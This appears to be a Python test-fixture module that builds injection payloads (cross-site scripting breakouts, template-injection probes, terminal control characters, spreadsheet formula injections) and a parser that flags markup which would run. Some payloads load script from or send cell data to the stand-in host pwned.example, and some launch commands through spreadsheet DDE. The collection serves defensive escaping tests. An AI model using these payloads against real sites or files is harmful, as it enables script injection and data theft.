"""Texts that attack: pages, spreadsheets, terminals, templates, file systems."""

from html.parser import HTMLParser

# Each way out of where a text may stand, before each thing that could run.
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</pre></code>",
    "-->",
    "</script>",
    "</option></select>",
    "<!--><p>",
)
_RUNS = (
    "<script>pwned()</script>",
    "<script src=//pwned.example/x.js></script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<iframe src=javascript:pwned()></iframe>",
    "<a href=javascript:pwned()>x</a>",
    "<a href=' java&#x09;script:pwned()'>x</a>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<form action=javascript:pwned()><button>x</button></form>",
    "<button formaction=javascript:pwned()>x</button>",
    "<meta http-equiv=refresh content='0;url=//pwned.example'>",
    "<base href=//pwned.example/>",
    "<object data=//pwned.example></object>",
    "<embed src=//pwned.example>",
    "<style>@import '//pwned.example'</style>",
    "<math href=javascript:pwned()>x</math>",
    "<video><source onerror=pwned()></video>",
)
MARKUP = tuple(out + run for out in _WAYS_OUT for run in _RUNS)
ATTRIBUTES = (
    '" onmouseover="pwned()',
    "' onmouseover='pwned()",
    '" autofocus onfocus=pwned() x="',
    "x onpointerenter=pwned() y",
)
LINKS = ("javascript:pwned()", "[x](javascript:pwned())", "data:text/html,pwned()")
# 31337 * 7, if anything evaluates it.
EVALUATED = "219359"
TEMPLATES = tuple(
    f"{start}{inner}{end}"
    for start, end in (
        ("{{", "}}"),
        ("{{-", "-}}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("{%print ", "%}"),
        ("{% set x=", "%}{{x}}"),
        ("%(", ")s"),
        ("{!r:", "}"),
        ("@(", ")"),
    )
    for inner in ("31337*7", "31337 * 7|string", "(31337*7).__str__()")
)
CONTROLS = "\x1b[31m\x07\x08 \u202ereversed\u202c \u2066isolated\u2069 \ufeff\x85"
FORMULAS = tuple(
    f"{before}{formula}"
    for before in ("", " ", '"', "'", "\t", "\r", "\u00a0", "\n", "\u3000", "\ufeff")
    for formula in (
        '=HYPERLINK("http://pwned.example/?x="&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\uff1d1+1",
    )
)
_ADDRESSES = ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href")
_NEVER = {"iframe", "object", "embed", "base", "style", "video", "source", "frame"}


class _Live(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        known = {name: (value or "") for name, value in attrs}
        source = known.get("src", "")
        is_data = known.get("type") == "application/json"
        if tag in _NEVER or (tag == "meta" and "http-equiv" in known):
            self.found.append(tag)
        if tag == "script" and not source.startswith("/static/") and not is_data:
            self.found.append("script")
        for name, value in known.items():
            bare = "".join(value.split()).lower()
            leads_away = bare.startswith(("javascript:", "data:text", "//pwned"))
            if name.startswith("on") or (name in _ADDRESSES and leads_away):
                self.found.append(f"{tag} {name}")


def live(page: str) -> list[str]:
    """Return what of a page would run, or lead away, by itself or with a click."""
    reader = _Live()
    reader.feed(page)
    reader.close()
    return reader.found
